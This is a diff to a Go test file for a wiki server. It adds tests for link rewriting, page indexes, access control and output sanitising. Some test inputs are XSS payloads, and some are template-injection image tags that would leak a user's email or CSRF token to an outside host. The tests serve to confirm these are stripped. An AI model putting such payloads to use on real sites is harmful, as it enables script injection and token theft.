@@ -1,6 +1,13 @@
 package main
 
-import "testing"
+import (
+	"bytes"
+	"context"
+	"net/http/httptest"
+	"os"
+	"strings"
+	"testing"
+)
 
 func TestGenerateWikiLinks(t *testing.T) {
 	validateGenerateWikiLinks(t, "!WikiLink", "WikiLink")
@@ -27,3 +34,111 @@ func validateMatchAndReplace(t *testing.T, input string, expected string) {
 		t.Errorf("expected '%s' got '%s'", expected, output)
 	}
 }
+
+func TestReplaceAttachmentLinks(t *testing.T) {
+	validateReplaceLinks(t, "see attachment:PlanDiagram.png.", "see [PlanDiagram.png](/attach/Main/WebHome/PlanDiagram.png).")
+	validateReplaceLinks(t, "![WebHome diagram](attachment:PlanDiagram.png)",
+		"![[WebHome](WebHome) diagram](/attach/Main/WebHome/PlanDiagram.png)")
+}
+func validateReplaceLinks(t *testing.T, input string, expected string) {
+	output := string(replaceLinks([]byte(input), "Main", "WebHome"))
+	if output != expected {
+		t.Errorf("expected '%s' got '%s'", expected, output)
+	}
+}
+
+func TestWebIndexMarkdown(t *testing.T) {
+	pages := []*PageInfo{{Web: "Main", Title: "WebHome"}, {Web: "Main", Title: "Changelog"}}
+	validateWebIndex(t, webIndexMarkdown(pages, "Main"), "* WebHome\n* [Changelog](/view/Main/Changelog)\n")
+	validateWebIndex(t, webIndexMarkdown(pages, "Design"), "* Main.WebHome\n* [Changelog](/view/Main/Changelog)\n")
+}
+func validateWebIndex(t *testing.T, output string, expected string) {
+	if output != expected {
+		t.Errorf("expected '%s' got '%s'", expected, output)
+	}
+}
+
+func TestWebIndexInPageBody(t *testing.T) {
+	wiki := &Wiki{Repository: fakeWikiRepositoryWithFile}
+	m := map[string]interface{}{"Web": "Main", "Title": "WebHome"}
+	html := createMarkdownRendering(m, pageFunctions(wiki, httptest.NewRequest("GET", "/", nil), "Main"), nil)("{{webIndex .Web}}")
+	if !strings.Contains(string(html), `<a href="WebHome">WebHome</a>`) ||
+		!strings.Contains(string(html), `<a href="/view/Main/Changelog">Changelog</a>`) {
+		t.Errorf("expected page links in '%s'", html)
+	}
+}
+
+func TestWebIndexAccess(t *testing.T) {
+	r := createTestACLRepository(t)
+	defer os.RemoveAll(r.Root)
+	wiki := &Wiki{Repository: r}
+	m := map[string]interface{}{"Web": "Main", "Title": "WebHome"}
+	html := createMarkdownRendering(m, pageFunctions(wiki, httptest.NewRequest("GET", "/", nil), "Main"), nil)(`{{webIndex "Design"}}`)
+	if strings.Contains(string(html), "Roadmap") {
+		t.Errorf("expected pages of a restricted web not to be listed in '%s'", html)
+	}
+}
+
+func TestSanitizePageBody(t *testing.T) {
+	r := createTestFileWikiRepository(t, map[string]string{
+		"Main/WikiPreferences.md": "   * Set TrustedWebs = Main\n",
+		"Main/WebHome.md":         "Home",
+	})
+	defer os.RemoveAll(r.Root)
+	wiki := &Wiki{Repository: r, Webs: r.LoadWebs()}
+	renderer := NewTemplateRenderer("tmpl", "default")
+	renderer.TrustedWebs = []string{"Design"}
+	p := &Page{Title: "WebHome", Body: []byte("Hello <script>alert(1)</script><a href=\"javascript:alert(1)\">WebHome</a>")}
+
+	output := new(bytes.Buffer)
+	if err := renderer.renderTemplate(output, httptest.NewRequest("GET", "/", nil), "view", wiki, "Main", p, nil); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(output.String(), "alert(1)") {
+		t.Errorf("expected scripts to be removed from '%s'", output.String())
+	}
+
+	output.Reset()
+	renderer.renderTemplate(output, httptest.NewRequest("GET", "/", nil), "view", wiki, "Design", p, nil)
+	if !strings.Contains(output.String(), "<script>alert(1)</script>") {
+		t.Errorf("expected a trusted web to keep its HTML in '%s'", output.String())
+	}
+}
+
+func TestUserInPageBody(t *testing.T) {
+	r := createTestFileWikiRepository(t, map[string]string{"Main/WebHome.md": "Home"})
+	defer os.RemoveAll(r.Root)
+	wiki := &Wiki{Repository: r, Webs: r.LoadWebs()}
+	user := &User{Name: "JaneDoe", Email: "jane@example.com"}
+	req := httptest.NewRequest("GET", "/", nil)
+	req = req.WithContext(context.WithValue(req.Context(), userContextKey, user))
+	p := &Page{Title: "WebHome", Body: []byte("Hello {{.UserName}} ![](https://example.com/?{{.User.Email}})")}
+
+	output := new(bytes.Buffer)
+	NewTemplateRenderer("tmpl", "default").renderTemplate(output, req, "view", wiki, "Main", p, map[string]interface{}{"User": user})
+	if !strings.Contains(output.String(), ">JaneDoe</a>") || strings.Contains(output.String(), "?jane@example.com") {
+		t.Errorf("expected only the name of the user in '%s'", output.String())
+	}
+}
+
+func TestCSRFTokenInPageBody(t *testing.T) {
+	r := createTestFileWikiRepository(t, map[string]string{"Main/WebHome.md": "Home"})
+	defer os.RemoveAll(r.Root)
+	wiki := &Wiki{Repository: r, Webs: r.LoadWebs()}
+	renderer := NewTemplateRenderer("tmpl", "default")
+	renderer.TrustedWebs = []string{"Design"}
+	p := &Page{Title: "WebHome", Body: []byte("![](https://example.com/?{{.CSRFToken}})")}
+	data := map[string]interface{}{"CSRFToken": "secret-token"}
+
+	output := new(bytes.Buffer)
+	renderer.renderTemplate(output, httptest.NewRequest("GET", "/", nil), "view", wiki, "Main", p, data)
+	if strings.Count(output.String(), "secret-token") != strings.Count(output.String(), `name="csrf"`) {
+		t.Errorf("expected the token only in the forms of the skin in '%s'", output.String())
+	}
+
+	output.Reset()
+	renderer.renderTemplate(output, httptest.NewRequest("GET", "/", nil), "view", wiki, "Design", p, data)
+	if !strings.Contains(output.String(), "example.com/?secret-token") {
+		t.Errorf("expected a trusted web to see the token in '%s'", output.String())
+	}
+}